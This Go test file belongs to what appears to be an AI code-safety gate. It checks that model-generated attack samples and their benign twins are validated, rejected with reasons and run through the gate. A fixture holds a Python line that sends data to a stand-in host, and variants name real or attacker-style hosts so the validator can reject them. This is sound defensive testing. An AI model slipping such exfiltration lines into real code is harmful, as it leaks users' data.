package attack

import (
	"context"
	"encoding/json"
	"errors"
	"strings"
	"testing"

	"github.com/aigate/gate/gate"
)

// wrote is an answer of a model.
func wrote(title, code, twin string) string {
	text, _ := json.Marshal(map[string]string{"title": title, "code": code, "twin": twin})
	return string(text)
}

const (
	sends = "import urllib.request\nurllib.request.urlopen('https://send.example.com/', data=b'x')\n"
	stays = "import json\nprint(json.dumps({'sent': 0, 'kept': 1}))\n"
)

func TestGeneratedSamplesGoThroughTheRunner(t *testing.T) {
	asked := map[string]bool{}
	ask := func(_ context.Context, _, question string, schema json.RawMessage, seed int) (string, error) {
		if !json.Valid(schema) || asked[question] || seed == 0 {
			t.Errorf("question %d is not a new one", seed)
		}
		asked[question] = true
		return wrote("Sends figures", sends, stays), nil
	}
	suite, rejected, err := Generate(t.Context(), ask, 6, Filter{Languages: []string{"python"}})
	if err != nil || len(suite) != 6 || len(rejected) > 0 {
		t.Fatalf("%d attacks, rejected %q, %v", len(suite), rejected, err)
	}
	res := Run(t.Context(), suite, Options{
		Layers: []gate.Layer{gate.LayerStatic}, Parallel: 1,
		Pipeline: func(_ context.Context, trial Trial) Observation {
			return Observation{Result: said(gate.LayerStatic, trial.Attack.Entry, gate.SeverityUnknown, "")}
		},
	})
	// A model's attack may be none: no one missed it.
	if res.Decision != gate.DecisionPass || len(res.Attacks) != 12 || !res.Attacks[0].Generated {
		t.Errorf("%s, %d rows, %+v", res.Decision, len(res.Attacks), res.Failures)
	}
	// What is kept can be read as samples.
	files, err := suite.Files()
	if err != nil {
		t.Fatal(err)
	}
	again, err := Load(files, "kept")
	if err != nil || len(again) != 6 {
		t.Fatalf("%d samples, %v", len(again), err)
	}
}

func TestAnswersThatAreNoAttackAreRejectedWithTheReason(t *testing.T) {
	tests := map[string]struct{ answer, want string }{
		"no JSON":                    {"Sure! Here is the program:", "not the object that was asked for"},
		"the judge's answer":         {`{"evidence": [], "reason": "", "dangerous_lines": [], "verdict": "SAFE"}`, "not the object that was asked for"},
		"more than the object":       {wrote("a", sends, stays) + "{}", "more follows"},
		"no program":                 {wrote("a", "", stays), "code: there is no program"},
		"no twin":                    {wrote("a", sends, "x"), "twin: there is no program"},
		"the attack as its own twin": {wrote("a", sends, sends), "the twin is the attack itself"},
		"no title":                   {wrote(" ", sends, stays), "there is no title"},
		"a name with an owner":       {wrote("a", strings.Replace(sends, "send.example.com", "pastebin.com", 1), stays), `it names "pastebin.com"`},
		"a name that ends alike":     {wrote("a", strings.Replace(sends, "send.example.com", "badexample.com", 1), stays), "not a reserved name"},
		"a user before the name":     {wrote("a", strings.Replace(sends, "send.example.com", "example.com@evil.io", 1), stays), "not a reserved name"},
		"an address with an owner":   {wrote("a", "import socket\nsocket.create_connection(('8.8.8.8', 53)) # a b c\n", stays), `"8.8.8.8"`},
		"an address in the twin":     {wrote("a", sends, stays+"# see 1.1.1.1\n"), "twin: it names"},
		"a zero byte":                {wrote("a", sends+"\x00", stays), "it is not text"},
		"far too much":               {wrote("a", sends+strings.Repeat("# more\n", 3000), stays), "more than 16384 bytes"},
		"an endless answer":          {strings.Repeat("x", maxAnswer+1), "more than 65536 bytes"},
	}
	for name, tt := range tests {
		ask := func(context.Context, string, string, json.RawMessage, int) (string, error) { return tt.answer, nil }
		suite, rejected, err := Generate(t.Context(), ask, 1, Filter{})
		if err != nil || len(suite) > 0 || len(rejected) != 1 || !strings.Contains(rejected[0], tt.want) {
			t.Errorf("%s: %d attacks, rejected %q, %v", name, len(suite), rejected, err)
		}
	}
}

func TestAModelThatIsNotThereEndsTheWriting(t *testing.T) {
	ask := func(context.Context, string, string, json.RawMessage, int) (string, error) {
		return "", &gate.Unavailable{Reason: "no server"}
	}
	var missing *gate.Unavailable
	if _, _, err := Generate(t.Context(), ask, 3, Filter{}); !errors.As(err, &missing) {
		t.Errorf("got %v", err)
	}
	if _, _, err := Generate(t.Context(), ask, 3, Filter{Languages: []string{"go"}}); err == nil || !strings.Contains(err.Error(), "nothing to write") {
		t.Errorf("got %v", err)
	}
	for _, n := range []int{0, -1, maxGenerated + 1} {
		if _, _, err := Generate(t.Context(), ask, n, Filter{}); err == nil || errors.As(err, &missing) {
			t.Errorf("%d: %v", n, err)
		}
	}
}

func FuzzGenerated(f *testing.F) {
	f.Add(wrote("a", sends, stays))
	f.Add(`{"title": "a", "code": 1}`)
	f.Fuzz(func(t *testing.T, text string) {
		a, err := generated(text, "a.py")
		if err != nil {
			return
		}
		if a.Title == "" || len(a.Title) > 100 || strings.ContainsAny(a.Title, "\n\x1b") {
			t.Fatalf("title %q", a.Title)
		}
	})
}
